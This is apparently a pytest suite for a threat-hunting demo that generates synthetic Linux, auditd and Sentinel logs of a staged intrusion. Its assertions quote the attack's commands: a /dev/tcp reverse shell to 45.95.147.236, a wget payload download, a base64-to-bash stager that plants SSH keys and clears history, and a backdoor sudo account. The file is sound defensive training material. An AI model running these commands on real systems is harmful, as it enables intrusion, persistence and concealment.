"""The demo generator writes real-format logs whose content matches its manifest.

Formats are checked with independent regexes and with Debian's own ``ausearch``;
values come from the manifest, which the checks cross-examine against the files.
"""

from __future__ import annotations

import base64
import csv
import gzip
import json
import os
import re
import shutil
import subprocess
import threading
from datetime import datetime
from pathlib import Path

import pytest

from hunting.demo.scenario import Manifest, demo_dir, demo_manifest, generate, main
from tests.conftest import missing

AUSEARCH = shutil.which("ausearch") or ("/usr/sbin/ausearch" if Path("/usr/sbin/ausearch").exists() else None)
BSD = re.compile(
    r"^(Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) ( [1-9]|[12]\d|3[01]) ([01]\d|2[0-3]):[0-5]\d:[0-5]\d "
    r"(?P<host>[A-Za-z0-9.-]+) (?P<tag>[A-Za-z0-9_./-]+)(\[\d+\])?: .+$"
)
ISO = re.compile(
    r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00 (?P<host>\S+) [A-Za-z0-9_./-]+(\[\d+\])?: .+$"
)
# RFC 5424 section 6: HEADER SP STRUCTURED-DATA [SP MSG]; NILVALUE is "-".
RFC5424 = re.compile(
    r"^<(?P<pri>\d{1,3})>1 (?P<ts>\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,6})?(Z|[+-]\d\d:\d\d)) "
    r"(?P<host>[!-~]{1,255}) (?P<app>[!-~]{1,48}) (?P<procid>[!-~]{1,128}) (?P<msgid>[!-~]{1,32}) "
    r"(?P<sd>-|(\[[^\]]+\])+)( (?P<msg>.*))?$"
)
EXECVE_SYSCALL = re.compile(
    r"^type=SYSCALL msg=audit\([\d.]+:\d+\): .*syscall=59 .* ppid=(\d+) pid=(\d+) auid=(\d+) uid=(\d+) .* ses=(\d+) "
)


def _lines(path: Path) -> list[str]:
    data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
    # not str.splitlines(): it also breaks at \x1d, the ENRICHED audit field separator
    return data.decode().split("\n")[:-1]


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Manifest]:
    out = tmp_path_factory.mktemp("demo")
    return out, generate(out)


@pytest.fixture(scope="module")
def execs(demo: tuple[Path, Manifest]) -> dict[int, list[tuple[int, int, int, int]]]:
    """pid -> [(ppid, auid, uid, ses)] for every execve in web01's audit.log."""
    out, _ = demo
    found: dict[int, list[tuple[int, int, int, int]]] = {}
    for line in _lines(out / "web01/audit/audit.log"):
        m = EXECVE_SYSCALL.match(line)
        if m:
            ppid, pid, auid, uid, ses = map(int, m.groups())
            found.setdefault(pid, []).append((ppid, auid, uid, ses))
    return found


def test_generate_same_seed_is_byte_identical(demo: tuple[Path, Manifest], tmp_path: Path) -> None:
    out, manifest = demo
    again = generate(tmp_path / "again")
    assert [f.path for f in again.files] == [f.path for f in manifest.files]
    for f in manifest.files:
        assert (out / f.path).read_bytes() == (tmp_path / "again" / f.path).read_bytes(), f.path


def test_generate_other_seed_differs(demo: tuple[Path, Manifest], tmp_path: Path) -> None:
    out, _ = demo
    generate(tmp_path, seed=8, scale=0.2)
    assert (tmp_path / "web01/auth.log").read_bytes() != (out / "web01/auth.log").read_bytes()


def test_manifest_line_counts_equal_file_lines(demo: tuple[Path, Manifest]) -> None:
    out, manifest = demo
    assert len(manifest.files) == 15
    for f in manifest.files:
        raw = (out / f.path).read_bytes()
        data = gzip.decompress(raw) if f.path.endswith(".gz") else raw
        assert data.endswith(b"\n")
        assert data.count(b"\n") == f.lines, f.path
    on_disk = sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file())
    assert on_disk == sorted(f.path for f in manifest.files)


def test_manifest_to_dict_round_trips_through_json(demo: tuple[Path, Manifest]) -> None:
    _, manifest = demo
    doc = json.loads(json.dumps(manifest.to_dict()))
    assert Manifest.from_dict(doc) == Manifest.from_dict(manifest.to_dict())
    assert doc["truth"]["attacker_ips"] == {"brute_force": "185.220.101.47", "c2": "45.95.147.236"}
    assert doc["start"] == "2026-03-09T18:00:00Z" and doc["end"] == "2026-03-12T18:00:00Z"


def test_auth_logs_match_traditional_syslog_framing(demo: tuple[Path, Manifest]) -> None:
    out, _ = demo
    for name in ("web01/auth.log", "web01/auth.log.1", "web01/auth.log.2.gz"):
        lines = _lines(out / name)
        assert lines, name
        for line in lines:
            m = BSD.match(line)
            assert m, f"{name}: {line!r}"
            assert m["host"] == "web01"
    hosts = {BSD.match(line)["host"] for line in _lines(out / "app02/auth.log")}  # type: ignore[index]
    assert hosts == {"APP02", "app02"}


def test_auth_log_mtime_is_scenario_end(demo: tuple[Path, Manifest]) -> None:
    out, manifest = demo
    end = datetime.fromisoformat(manifest.end.replace("Z", "+00:00")).timestamp()
    assert os.stat(out / "web01/auth.log").st_mtime == end
    assert os.stat(out / "web01/auth.log.1").st_mtime < end


def test_auth_log_rotation_is_split_by_time(demo: tuple[Path, Manifest]) -> None:
    out, _ = demo

    def stamps(name: str) -> list[datetime]:
        return [datetime.strptime("2026 " + line[:15], "%Y %b %d %H:%M:%S") for line in _lines(out / name)]

    old, mid, new = stamps("web01/auth.log.2.gz"), stamps("web01/auth.log.1"), stamps("web01/auth.log")
    assert old == sorted(old) and mid == sorted(mid) and new == sorted(new)
    assert old[-1] <= mid[0] and mid[-1] <= new[0]
    assert old[0].day == 9 and mid[0].day == 10 and new[0].day == 11 and new[-1].day == 12


def test_gz_rotation_decompresses_with_gzip_module(demo: tuple[Path, Manifest]) -> None:
    out, manifest = demo
    with gzip.open(out / "web01/auth.log.2.gz", "rt") as f:
        text = f.read()
    assert text.count("\n") == manifest.file("web01/auth.log.2.gz").lines
    raw = (out / "web01/auth.log.2.gz").read_bytes()
    assert raw[:2] == b"\x1f\x8b" and raw[3] & 0x08 == 0  # FNAME flag unset, as from `gzip < file`


def test_db01_auth_log_uses_rsyslog_high_precision_format(demo: tuple[Path, Manifest]) -> None:
    out, _ = demo
    for name in ("db01/auth.log", "db01/syslog"):
        for line in _lines(out / name):
            m = ISO.match(line)
            assert m and m["host"] == "db01", line


def test_syslog_lines_match_rfc5424_grammar(demo: tuple[Path, Manifest]) -> None:
    out, _ = demo
    severities: dict[int, int] = {}
    for line in _lines(out / "web01/syslog"):
        m = RFC5424.match(line)
        assert m, line
        pri = int(m["pri"])
        assert pri <= 191
        assert m["procid"] == "-" or m["procid"].isdigit()
        severities[pri % 8] = severities.get(pri % 8, 0) + 1
        datetime.fromisoformat(m["ts"])
    assert severities.get(3, 0) > 0 and severities.get(4, 0) > 0 and severities.get(6, 0) > 0


def test_intrusion_story_lines_are_in_auth_log_and_syslog(demo: tuple[Path, Manifest]) -> None:
    out, manifest = demo
    t = manifest.truth
    auth = "\n".join(_lines(out / "web01/auth.log"))
    ip = t["attacker_ips"]["brute_force"]
    assert f"Accepted password for deploy from {ip} port " in auth
    assert re.search(
        rf"message repeated \d+ times: \[ Failed password for root from {re.escape(ip)} port \d+ ssh2\]", auth
    )
    assert "Failed password for invalid user " in auth
    assert "sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash" in auth
    assert (
        "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/1"
        in auth
    )
    assert "usermod[" in auth and "add 'backup2' to group 'sudo'" in auth
    assert "pam_unix(chpasswd:chauthtok): password changed for backup2" in auth
    syslog = _lines(out / "web01/syslog")
    cmd = f"(root) CMD ({t['cron_command']})"
    assert sum(1 for line in syslog if line.endswith(cmd)) == t["malicious_cron_runs"] > 0
    assert any(line.endswith("(root) REPLACE (root)") for line in syslog)


def test_ausearch_event_count_equals_manifest(demo: tuple[Path, Manifest]) -> None:
    if AUSEARCH is None:
        missing("ausearch (Debian package auditd) is not installed")
    out, manifest = demo
    for name in ("web01/audit/audit.log", "db01/audit/audit.log"):
        res = subprocess.run(
            [AUSEARCH, "-if", str(out / name), "--raw"], capture_output=True, text=True, check=True
        )
        ids = set(re.findall(r"msg=audit\((\d+\.\d+:\d+)\)", res.stdout))
        assert len(ids) == manifest.file(name).records, name


def test_ausearch_finds_reverse_shell_with_its_parent(demo: tuple[Path, Manifest]) -> None:
    if AUSEARCH is None:
        missing("ausearch (Debian package auditd) is not installed")
    out, manifest = demo
    pids = manifest.truth["pids"]
    res = subprocess.run(
        [AUSEARCH, "-if", str(out / "web01/audit/audit.log"), "-p", str(pids["reverse_shell"]), "-i"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert f"ppid={pids['root_shell']} pid={pids['reverse_shell']} " in res.stdout
    assert "a2=bash -i >& /dev/tcp/45.95.147.236/4444 0>&1" in res.stdout


def test_audit_ancestry_is_consistent(
    demo: tuple[Path, Manifest], execs: dict[int, list[tuple[int, int, int, int]]]
) -> None:
    _, manifest = demo
    t = manifest.truth
    p = t["pids"]
    uid, ses = t["compromised_uid"], t["logon_session"]

    def one(pid: int) -> tuple[int, int, int, int]:
        same_session = [e for e in execs[pid] if e[3] == ses] or execs[pid]
        return same_session[-1]

    assert one(p["sshd_session"])[0] == p["sshd_listener"]
    assert one(p["user_shell"]) == (p["sshd_user"], uid, uid, ses)
    assert one(p["sudo"])[:2] == (p["user_shell"], uid)
    assert one(p["root_shell"]) == (p["sudo"], uid, 0, ses)
    for step in ("wget", "chmod", "dropped_tool", "reverse_shell", "stager", "history_rm"):
        assert one(p[step]) == (p["root_shell"], uid, 0, ses), step
    assert one(p["reverse_shell_interactive"])[0] == p["reverse_shell"]
    assert one(p["stager_bash"])[0] == p["stager"]
    assert one(p["cron_sh"])[0] == p["cron_child"]
    assert one(p["cron_curl"])[0] == p["cron_sh"] and one(p["cron_pipe_sh"])[0] == p["cron_sh"]
    assert one(p["cron_curl"])[1:3] == (0, 0)


def test_audit_pids_wrap_and_are_reused(
    demo: tuple[Path, Manifest], execs: dict[int, list[tuple[int, int, int, int]]]
) -> None:
    _, manifest = demo
    assert manifest.truth["pid_wrap"] is not None
    reused = [pid for pid, events in execs.items() if len({e[3] for e in events}) > 1]
    assert reused


def test_execve_long_argument_is_split_and_decodes(demo: tuple[Path, Manifest]) -> None:
    out, manifest = demo
    serial = None
    chunks: dict[int, str] = {}
    for line in _lines(out / "web01/audit/audit.log"):
        if line.startswith("type=EXECVE") and ' a0="bash" a1="-c" a2_len=' in line:
            serial = line.split("msg=audit(")[1].split(")")[0]
        if serial and line.startswith(f"type=EXECVE msg=audit({serial})"):
            chunks.update({int(i): v for i, v in re.findall(r" a2\[(\d+)\]=([0-9A-F]+)", line)})
    assert serial and len(chunks) >= 2
    text = bytes.fromhex("".join(chunks[i] for i in sorted(chunks))).decode()
    assert text.startswith("echo ") and text.endswith("|base64 -d|bash")
    decoded = base64.b64decode(text[5 : -len("|base64 -d|bash")]).decode()
    assert decoded == manifest.truth["decoded_payload"]
    assert "/root/.ssh/authorized_keys" in decoded and "history -c" in decoded and "unset HISTFILE" in decoded


def test_execve_args_with_spaces_are_hex_encoded(demo: tuple[Path, Manifest]) -> None:
    out, manifest = demo
    text = "\n".join(_lines(out / "web01/audit/audit.log"))
    cron = manifest.truth["cron_command"].encode().hex().upper()
    assert f'a0="/bin/sh" a1="-c" a2={cron}' in text
    assert 'a0="wget" a1="http://linux-kworker-sync.top/x" a2="-O" a3="/tmp/.x/kworkerd"' in text


def test_audit_logon_and_account_records_present(demo: tuple[Path, Manifest]) -> None:
    out, _ = demo
    text = "\n".join(_lines(out / "web01/audit/audit.log"))
    for rtype in ("USER_AUTH", "USER_ACCT", "CRED_ACQ", "USER_START", "USER_LOGIN", "USER_END", "CRED_DISP",
                  "ADD_USER", "ADD_GROUP", "USER_CMD", "LOGIN", "PROCTITLE", "CWD", "PATH", "EOE"):  # fmt: skip
        assert f"type={rtype} msg=audit(" in text, rtype
    db = "\n".join(_lines(out / "db01/audit/audit.log"))
    assert '\x1dARCH=x86_64 SYSCALL=execve AUID="postgres"' in db


def test_passwd_snapshot_matches_manifest_uids(demo: tuple[Path, Manifest]) -> None:
    out, manifest = demo
    rows = {line.split(":")[0]: line.split(":") for line in _lines(out / "web01/etc/passwd")}
    assert int(rows[manifest.truth["compromised_user"]][2]) == manifest.truth["compromised_uid"] == 1001
    assert int(rows[manifest.truth["new_account"]][2]) == manifest.truth["new_uid"] == 1002
    assert all(len(r) == 7 for r in rows.values())


def test_ti_feed_lists_story_indicators(demo: tuple[Path, Manifest]) -> None:
    out, manifest = demo
    with open(out / "ti/demo_feed.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == ["indicator", "type", "severity", "description"]
    indicators = {r["indicator"]: r["type"] for r in rows}
    t = manifest.truth
    assert indicators[t["attacker_ips"]["brute_force"]] == "ipv4"
    assert indicators[t["domain"]] == "domain" and indicators[t["download_url"]] == "url"
    assert indicators[t["tool_sha256"]] == "sha256"
    assert len(rows) > 8  # unrelated indicators too


def test_security_alerts_follow_the_story(demo: tuple[Path, Manifest]) -> None:
    out, manifest = demo
    with open(out / "sentinel/SecurityAlert.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == manifest.file("sentinel/SecurityAlert.csv").records == 5
    names = {r["AlertName"]: r for r in rows}
    for name in ("Suspicious SSH brute force", "Possible reverse shell", "New user added to sudoers group"):
        assert names[name]["CompromisedEntity"] == "web01"
    shell = names["Possible reverse shell"]
    assert shell["StartTimeUtc"] == manifest.truth["steps"]["reverse_shell"][:19].replace("T", " ")
    entities = json.loads(shell["Entities"])
    assert {"HostName": "web01"}.items() <= entities[0].items()
    assert any(e.get("Address") == "45.95.147.236" for e in entities)
    json.loads(shell["ExtendedProperties"])
    low = [r for r in rows if r["CompromisedEntity"] == "db01"]
    assert len(low) == 1 and low[0]["Severity"] == "Low"


def test_heartbeat_and_flows_cover_hosts_and_attacker(demo: tuple[Path, Manifest]) -> None:
    out, _ = demo
    with open(out / "sentinel/Heartbeat.csv", newline="") as f:
        hb = list(csv.DictReader(f))
    assert len(hb) == 3 * 72
    assert {r["Computer"] for r in hb} == {"web01", "db01", "APP02", "app02"}
    assert {r["OSName"] + " " + r["OSMajorVersion"] for r in hb} == {"Ubuntu 22", "Debian 12"}
    with open(out / "sentinel/AzureNetworkAnalytics_CL.csv", newline="") as f:
        flows = list(csv.DictReader(f))
    keyed = {(r["VMName"], r["AllExtIPs"], r["DestPort"], r["FlowDirection"]) for r in flows}
    assert ("web01", "185.220.101.47", "22", "I") in keyed
    assert ("web01", "45.95.147.236", "4444", "O") in keyed
    assert ("web01", "45.95.147.236", "80", "O") in keyed
    assert any(r["FlowType"] == "IntraVNet" and r["DestPort"] == "5432" for r in flows)


def test_attacker_ips_resolve_to_a_country() -> None:
    from geoip2fast import GeoIP2Fast

    geo = GeoIP2Fast()
    assert geo.lookup("185.220.101.47").country_code == "DE"
    assert geo.lookup("45.95.147.236").country_code == "NL"


def test_generate_scale_two_doubles_background(demo: tuple[Path, Manifest], tmp_path: Path) -> None:
    _, one = demo
    two = generate(tmp_path, scale=2.0)
    for host in ("db01", "app02"):  # benign only: all of it is background
        ratio = two.lines_of(host) / one.lines_of(host)
        assert 1.8 < ratio < 2.2, (host, ratio)
    ratio = two.file("web01/syslog").lines / one.file("web01/syslog").lines
    assert 1.8 < ratio < 2.2
    assert two.truth["steps"] == one.truth["steps"] or two.truth["steps"].keys() == one.truth["steps"].keys()


def test_generate_rejects_non_positive_scale(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="scale must be positive"):
        generate(tmp_path, scale=0)


def test_main_writes_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main([str(tmp_path / "out"), "--scale", "0.1"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert (tmp_path / "out/web01/audit/audit.log").is_file()
    assert summary["lines"]["web01/etc/passwd"] == len(_lines(tmp_path / "out/web01/etc/passwd"))


def test_demo_dir_concurrent_calls_build_it_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HUNTING_CACHE_DIR", str(tmp_path))
    results: list[Path] = []
    threads = [threading.Thread(target=lambda: results.append(demo_dir())) for _ in range(2)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert len(results) == 2 and results[0] == results[1] == tmp_path / "demo-v1"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["demo-v1", "demo-v1.manifest.json"]
    manifest = demo_manifest()
    for f in manifest.files:
        raw = (results[0] / f.path).read_bytes()
        assert (gzip.decompress(raw) if f.path.endswith(".gz") else raw).count(b"\n") == f.lines
    before = os.stat(results[0] / "web01/auth.log").st_ino
    assert demo_dir() == results[0]
    assert os.stat(results[0] / "web01/auth.log").st_ino == before
